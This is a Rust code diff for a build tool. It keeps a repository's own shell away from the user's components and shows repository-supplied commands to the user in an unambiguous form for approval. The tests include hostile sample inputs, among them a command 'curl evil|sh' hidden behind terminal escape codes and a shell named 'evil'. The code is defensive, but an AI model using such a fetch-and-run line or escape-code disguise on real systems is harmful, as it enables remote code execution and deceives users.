@@ -13,6 +13,7 @@ use super::config::{self, AbsolutePaths, Component, Config, ConfigError, FILE, U
 use super::order;
 use super::pattern::Pattern;
 use crate::sys::path;
+use crate::sys::terminal::Shown;
 
 /// The user's own configuration.
 #[derive(Clone, Debug, Default, Deserialize, JsonSchema)]
@@ -58,9 +59,38 @@ pub struct Declared {
 pub struct Components {
     pub all: Vec<Declared>,
     pub undeclared: Undeclared,
-    pub shell: Vec<String>,
-    /// The shell is named by the repository.
-    shell_is_users: bool,
+    /// What runs the commands of the repository's components.
+    shell: Vec<String>,
+    /// The repository itself names it.
+    shell_is_foreign: bool,
+    /// What runs the commands of the user's own components: never what a repository names.
+    users_shell: Vec<String>,
+}
+
+/// A command that a repository brings.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Foreign {
+    /// What runs all the others; the command is the last argument.
+    Shell(Vec<String>),
+    Command {
+        /// Where it runs, from the top of the repository.
+        dir: PathBuf,
+        text: String,
+    },
+}
+
+impl Foreign {
+    /// Complete and without ambiguity, for the eyes of the user who approves it.
+    pub fn words(&self) -> String {
+        match self {
+            Foreign::Shell(words) => {
+                let words: Vec<String> = words.iter().map(|w| w.word().to_string()).collect();
+                format!("shell: {} …", words.join(" "))
+            }
+            Foreign::Command { dir, text } if dir.as_os_str().is_empty() => format!("in .: {}", text.shown()),
+            Foreign::Command { dir, text } => format!("in {}: {}", dir.as_os_str().word(), text.shown()),
+        }
+    }
 }
 
 impl Components {
@@ -85,8 +115,9 @@ impl Components {
     }
 
     fn merge(config: Config, is_users: bool, user: User, user_file: &Path) -> Result<Components, ConfigError> {
-        let shell_is_users = user.shell.is_some() || config.shell.is_none() || is_users;
+        let shell_is_foreign = user.shell.is_none() && config.shell.is_some() && !is_users;
         let shell = user.shell.clone().unwrap_or_else(|| config.shell());
+        let users_shell = if shell_is_foreign { Config::default().shell() } else { shell.clone() };
         let undeclared = user.undeclared.unwrap_or(config.undeclared);
         let mut all: Vec<(Component, bool)> = config.component.into_iter().map(|c| (c, is_users)).collect();
         for component in user.component {
@@ -106,7 +137,8 @@ impl Components {
             let (component, is_users) = all[n].clone();
             Declared { patterns: component.patterns(), component, is_users }
         };
-        Ok(Components { all: order.into_iter().map(declared).collect(), undeclared, shell, shell_is_users })
+        let all = order.into_iter().map(declared).collect();
+        Ok(Components { all, undeclared, shell, shell_is_foreign, users_shell })
     }
 
     pub fn is_empty(&self) -> bool {
@@ -128,20 +160,26 @@ impl Components {
         makes.or_else(|| self.covering(directory).next()).and_then(|d| d.component.absolute_paths)
     }
 
-    /// Every command that a repository has put in: where it runs, and what. The shell too, if it is the repository's.
-    pub fn foreign_commands(&self) -> Vec<(PathBuf, String)> {
+    /// What runs the commands of a component.
+    pub fn shell_of(&self, declared: &Declared) -> &[String] {
+        if declared.is_users { &self.users_shell } else { &self.shell }
+    }
+
+    /// Every command that a repository brings. The shell too, if it is the repository's and anything runs in it.
+    pub fn foreign_commands(&self) -> Vec<Foreign> {
         let theirs = self.all.iter().filter(|d| !d.is_users);
         let mut commands: Vec<_> = theirs
             .flat_map(|d| {
                 let component = &d.component;
                 let key = component.key.as_ref().and_then(|k| k.command.clone());
-                key.into_iter().chain(component.build.clone()).map(|command| (component.dir.clone(), command))
+                let commands = key.into_iter().chain(component.build.clone());
+                commands.map(|text| Foreign::Command { dir: component.dir.clone(), text })
             })
             .collect();
         commands.sort();
         commands.dedup();
-        if !self.shell_is_users && !commands.is_empty() {
-            commands.insert(0, (PathBuf::new(), format!("{} …", self.shell.join(" "))));
+        if self.shell_is_foreign && !commands.is_empty() {
+            commands.insert(0, Foreign::Shell(self.shell.clone()));
         }
         commands
     }
@@ -237,8 +275,8 @@ mod tests {
         let found = of(Some(&(component("a") + &component("b") + &component("c"))), &user, vec![]).unwrap();
         let names: Vec<_> = found.all.iter().map(|d| (d.component.name.as_str(), d.is_users)).collect();
         assert_eq!(names, [("a", false), ("c", false), ("b", true), ("own", true)]);
-        let commands: Vec<_> = found.foreign_commands().into_iter().map(|(_, c)| c).collect();
-        assert_eq!(commands, ["make a", "make c"]);
+        let commands: Vec<_> = found.foreign_commands().iter().map(Foreign::words).collect();
+        assert_eq!(commands, ["in .: make a", "in .: make c"]);
         assert!(of(None, &user, vec![]).unwrap_err().contains("\"c\", which is no component"));
         assert!(of(None, "", vec![]).unwrap().is_empty());
     }
@@ -261,7 +299,38 @@ mod tests {
     fn a_shell_of_the_repository_has_to_be_approved_with_its_commands() {
         let text = format!("shell = [\"evil\", \"-c\"]\n{}", component("a"));
         let commands = of(Some(&text), "", vec![]).unwrap().foreign_commands();
-        assert_eq!(commands[0].1, "evil -c …");
+        assert_eq!(commands[0].words(), "shell: evil -c …");
         assert_eq!(of(Some(&text), "shell = [\"sh\", \"-c\"]\n", vec![]).unwrap().foreign_commands().len(), 1);
+    }
+
+    #[test]
+    fn a_shell_of_the_repository_runs_its_own_components_and_never_the_users() {
+        let theirs = format!("shell = [\"evil\", \"-c\"]\n{}", component("theirs"));
+        let shells = |repository: &str, user: &str| {
+            let found = of(Some(repository), user, vec![]).unwrap();
+            let shell = |name: &str| found.shell_of(found.named(name).unwrap()).join(" ");
+            [shell("theirs"), shell("own")]
+        };
+        assert_eq!(shells(&theirs, &component("own")), ["evil -c", "sh -c"]);
+        let user = format!("shell = [\"fish\", \"-c\"]\n{}", component("own"));
+        assert_eq!(shells(&theirs, &user), ["fish -c", "fish -c"]);
+        // One that takes the place of the repository's is the user's as well.
+        assert_eq!(shells(&theirs, &(component("own") + &component("theirs"))), ["sh -c", "sh -c"]);
+    }
+
+    #[test]
+    fn two_commands_are_never_shown_alike() {
+        let shell = |words: &[&str]| Foreign::Shell(words.iter().map(|w| (*w).to_owned()).collect());
+        let command = |dir: &str, text: &str| Foreign::Command { dir: dir.into(), text: text.into() };
+        let table = [
+            (shell(&["sh", "-c"]), "shell: sh -c …"),
+            (shell(&["sh -c"]), "shell: \"sh -c\" …"),
+            (command("", "make"), "in .: make"),
+            (command("a: b", "make"), "in \"a: b\": make"),
+            (command("a", "b: make"), "in a: b: make"),
+            (command("", "curl evil|sh #\u{1b}[2K\r make"), r#"in .: "curl evil|sh #\033[2K\r make""#),
+            (command("web", "a\n  in .: b"), r#"in web: "a\n  in .: b""#),
+        ];
+        table.iter().for_each(|(one, words)| assert_eq!(one.words(), *words));
     }
 }
